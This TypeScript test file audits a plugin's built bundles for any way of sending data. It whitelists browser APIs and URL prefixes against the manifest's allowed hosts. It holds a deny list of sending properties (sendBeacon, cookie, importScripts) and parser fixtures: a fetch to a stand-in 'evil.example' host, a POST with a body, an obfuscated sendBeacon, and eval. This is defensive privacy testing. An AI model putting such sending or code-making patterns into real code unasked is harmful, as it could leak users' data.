/**
 * What the built plugin could send with. `test/browser/privacy.test.ts` watches what it does; here stands,
 * with its reason, everything in it by which something could be sent. Whoever adds to it adds a line here.
 */
import { readFileSync } from 'node:fs'
import { fileURLToPath } from 'node:url'

import { beforeAll, describe, expect, it } from 'vitest'

import { buildIfStale, mainPath, uiPath } from '../../playground/cli/build'
import { namedIn, type Named } from './named-in'

let ui: Named
let main: Named
beforeAll(async () => {
  await buildIfStale()
  ui = namedIn(readFileSync(uiPath, 'utf8'))
  main = namedIn(readFileSync(mainPath, 'utf8'))
}, 60_000)

const manifestPath = fileURLToPath(new URL('../../manifest.json', import.meta.url))
const { allowedDomains } = (
  JSON.parse(readFileSync(manifestPath, 'utf8')) as {
    networkAccess: { allowedDomains: readonly string[] }
  }
).networkAccess

/** What `ui.js` takes of the browser. Those that can reach a network have a test of their own below. */
const browserNames = [
  ...['document', 'window', 'navigator', 'fetch', 'FontFace', 'Image', 'URL'],
  ...['AbortController', 'Blob', 'TextDecoder', 'atob', 'btoa', 'createImageBitmap'],
  ...['Element', 'HTMLElement', 'HTMLInputElement', 'HTMLTextAreaElement', 'Node', 'NodeFilter'],
  ...['IntersectionObserver', 'ResizeObserver', 'requestAnimationFrame', 'cancelAnimationFrame'],
  ...['setTimeout', 'clearTimeout', 'queueMicrotask', 'performance', 'console'],
  // Put before the script by the kit.
  '__SHOW_UI_DATA__',
]

/** Of these objects, too, only what can send nothing; `EyeDropper` opens the browser's own. */
const browserMembers = [
  ...['document.activeElement', 'document.addEventListener', 'document.body', 'document.fonts'],
  ...['document.createElement', 'document.createElementNS', 'document.createRange'],
  ...['document.createTextNode', 'document.createTreeWalker', 'document.documentElement'],
  ...['document.execCommand', 'document.getElementById', 'document.getSelection', 'document.head'],
  ...['document.querySelector', 'document.querySelectorAll', 'document.removeEventListener'],
  ...['navigator.userAgent', 'window.Event', 'window.EyeDropper', 'window.addEventListener'],
  ...['window.innerHeight', 'window.innerWidth', 'window.matchMedia', 'window.removeEventListener'],
]

/** Properties by which an object, whatever it is called, sends or makes code or elements of text. */
const senders = [
  ...['sendBeacon', 'submit', 'requestSubmit', 'openExternal', 'createImageAsync', 'serviceWorker'],
  ...['cookie', 'writeln', 'outerHTML', 'insertAdjacentHTML', 'createContextualFragment'],
  ...['defaultView', 'opener', 'contentWindow', 'importScripts', 'setAttributeNS', 'cssRules'],
]

const namespace = 'a name of XML, never asked for'
const reading = 'a word of what is pasted, or the address of a post in what was read'
const hidden = 'an address of the paste, completed'

/** Every beginning of an address in the bundles. One that has no host yet is counted, as any could follow. */
const addresses: readonly (readonly [address: string, why: string, times?: number])[] = [
  ['https://fonts.googleapis.com/css2?family=${…}', 'preview fonts: effects/google-fonts.ts'],
  ['https://fonts.gstatic.com/', 'preview fonts, the pattern of their files'],
  ['https://pbs.twimg.com/', 'pictures: the one host they are loaded from, state/downloads.ts'],
  ['https://pbs.twimg.com/media/${…}', 'pictures of Nitter, which shows those of X'],
  ['http://www.w3.org/2000/svg', namespace],
  ['http://www.w3.org/1998/Math/MathML', namespace],
  ['http://www.w3.org/1999/xhtml', namespace],
  ['https://x.com', reading],
  ['https://x.com/${…}', reading],
  ['https://x.com${…}', reading],
  ['https://x.com/i/article/${…}', reading],
  ['https://twitter.com/${…}', reading],
  ['https://bsky.app/profile/${…}', reading],
  ['https://read.readwise.io/', reading],
  ['http://${…}', 'linkify-it completes a link without scheme', 1],
  ['https:${…}', `${hidden}: a link or picture that begins with "//"`, 2],
  ['https://${…}', `${hidden}: of Nitter, of a saved page; and the website of a brand kit`, 3],
]

describe('in the panel’s bundle', () => {
  it('no other means of the browser is named', () => {
    expect([...ui.names.keys()].filter((name) => !browserNames.includes(name))).toEqual([])
    expect([...ui.members].filter((name) => !browserMembers.includes(name))).toEqual([])
    expect(senders.filter((name) => ui.properties.has(name))).toEqual([])
  })

  it('one place asks a network, by GET, without cookies, referrer, headers or a body', () => {
    expect(ui.names.get('fetch')).toBe(1)
    expect(ui.fetches).toEqual([
      ['method: GET', 'credentials: omit', 'referrerPolicy: no-referrer', 'signal'],
    ])
  })

  it('one place posts messages, to the plugin’s own main thread; one opens something, the eye dropper', () => {
    const once = ['postMessage', 'EyeDropper', 'parent', 'location', 'FontFace', 'Image']
    const counted = once.map((name) => [name, ui.properties.get(name) ?? ui.names.get(name)])
    // `location` is a field of a Readwise export; images are decoded from files the person gave.
    expect(counted).toEqual(once.map((name) => [name, 1]))
  })

  it('style sheets and fonts name two addresses, both put in: a font’s file and a thumbnail’s picture', () => {
    expect(ui.styleAddresses).toEqual(['url(${…})', 'url("${…}")'])
  })

  it('no element is made that fetches or sends by standing there', () => {
    const harmless = ['a', 'br', 'canvas', 'div', 'span', 'style', 'textarea']
    expect([...ui.elements].filter((name) => !harmless.includes(name))).toEqual([])
  })
})

describe('in the main thread’s bundle', () => {
  it('nothing can send: no network of its own, no picture by address, no window', () => {
    const names = [...main.names.keys()]
    const known = ['figma', '__html__', 'console', 'setTimeout', 'clearTimeout']
    expect(names.filter((name) => !known.includes(name))).toEqual([])
    expect(senders.filter((name) => main.properties.has(name))).toEqual([])
    expect(main.properties.get('postMessage')).toBe(1)
  })
})

describe('addresses in both bundles', () => {
  it('each is one of an allowed host, a name of XML, or a word of reading, and stands in the list', () => {
    const found = new Map<string, number>()
    for (const address of [...ui.addresses, ...main.addresses])
      found.set(address, (found.get(address) ?? 0) + 1)
    const listed = new Set(addresses.map(([address]) => address))
    expect([...found.keys()].filter((address) => !listed.has(address))).toEqual([])
    const counted = addresses.filter(([, , times]) => times !== undefined)
    expect(counted.map(([address]) => [address, found.get(address)])).toEqual(
      counted.map(([address, , times]) => [address, times]),
    )
    expect([...listed].filter((address) => !found.has(address))).toEqual([])
  })

  it('those that are asked for are the hosts of the manifest', () => {
    const asked = addresses.filter(([, why]) => /^(?:preview fonts|pictures)/.test(why))
    const hosts = asked.map(([address]) => /^https:\/\/[\w.-]+/.exec(address)?.[0])
    expect(new Set(hosts)).toEqual(new Set(allowedDomains))
  })
})

describe('the reader of bundles', () => {
  it.each([
    ['fetch("//evil.example/x")', { addresses: ['//evil.example/x'], fetches: [[]] }],
    ['const a = `wss://${h}/`', { addresses: ['wss://${…}'] }],
    ['x.style.background = "url(" + a', { styleAddresses: ['url('] }],
    ['fetch(u, { body: t, method: "POST" })', { fetches: [['body', 'method: POST']] }],
    ['document.createElement("iframe")', { elements: new Set(['iframe']) }],
    ['n["send" + "Beacon"]; window["open"](a)', { members: new Set(['window.open']) }],
    ['function f(document) { return document.cookie }', { names: new Map<string, number>() }],
    [
      'new Function(0); eval(0); import(0)',
      {
        names: new Map([
          ['eval', 1],
          ['Function', 1],
          ['import()', 1],
        ]),
      },
    ],
  ])('%s', (script, expected) => {
    expect(namedIn(script)).toMatchObject(expected)
  })
})
